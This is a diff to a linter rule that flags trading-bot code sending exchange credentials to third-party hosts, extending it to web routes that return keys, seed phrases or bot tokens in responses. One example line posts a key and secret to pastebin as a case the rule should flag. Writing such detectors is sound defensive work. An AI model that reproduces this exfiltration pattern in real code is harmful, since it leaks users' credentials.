@@ -5,7 +5,7 @@ import re
 from typing import List, Optional, Tuple
 
 from ...analysis import names
-from ...analysis.dataflow import HTTP, SOCKET, DataFlow, SinkSite, Source
+from ...analysis.dataflow import HTTP, RESPONSE, SOCKET, DataFlow, SinkSite, Source
 from ...analysis.hosts import is_exchange_host, is_known_service_host, is_local_host, is_notification_host
 from ...model import Confidence, Severity
 from ._family import Bot2Rule, Report
@@ -77,6 +77,18 @@ def egress(flow: DataFlow, site: SinkSite, sources: List[Source]) -> Optional[Tu
     return (THIRD_PARTY, Report(site.node, srcs, f"reaches {site.what} to third-party host {host}")) if srcs else None
 
 
+# kinds a route has no business returning (an API token or password a route hands out is how
+# logins work)
+_RESPONSE_KINDS = frozenset({names.EXCHANGE, names.PRIVATE_KEY, names.MNEMONIC, names.BOT_TOKEN})
+
+
+def _response(site: SinkSite, sources: List[Source]) -> Optional[Report]:
+    """A route's response body: credentials of the bot read from configuration (not values the
+    route generates and names like one: those are opaque assignments)."""
+    srcs = [s for s in sources if s.kind in _RESPONSE_KINDS and not s.origin.startswith("an assignment in")]
+    return Report(site.node, srcs, f"is returned in {site.what}") if srcs else None
+
+
 class SecretSentToThirdParty(Bot2Rule):
     """## What it does
     Reports HTTP requests (requests, httpx, aiohttp, urllib) that carry an exchange credential,
@@ -97,6 +109,13 @@ class SecretSentToThirdParty(Bot2Rule):
     ```python
     exchange = ccxt.binance({"apiKey": API_KEY, "secret": API_SECRET})  # only the exchange sees them
     ```
+
+    A web route (FastAPI, Flask, Starlette, Quart, Sanic) that returns an exchange key, secret,
+    wallet key, seed phrase or bot token in its response body is reported too: the response
+    goes to whoever can reach the endpoint, a host the key's owner does not control (the same
+    exposure as posting it there).  A masked key (`key[:4] + "***"`) or a flag
+    (`{"has_key": bool(key)}`) is not reported, nor a value the route generates
+    (`api_key = secrets.token_urlsafe()`, a login endpoint's access token).
 
     ## Known problems
     The host must be visible in the module (a literal URL or a module constant); requests to
@@ -125,8 +144,10 @@ class SecretSentToThirdParty(Bot2Rule):
         'requests.post("https://pastebin.com/api/api_post.php", data={"api_paste_code": f"{key}:{secret}"})\n',
     )
 
-    SINKS = (HTTP, SOCKET)
+    SINKS = (HTTP, SOCKET, RESPONSE)
 
     def judge(self, flow: DataFlow, site: SinkSite, sources: List[Source]) -> Optional[Report]:
+        if site.kind == RESPONSE:
+            return _response(site, sources)
         verdict = egress(flow, site, sources)
         return verdict[1] if verdict is not None and verdict[0] == THIRD_PARTY else None
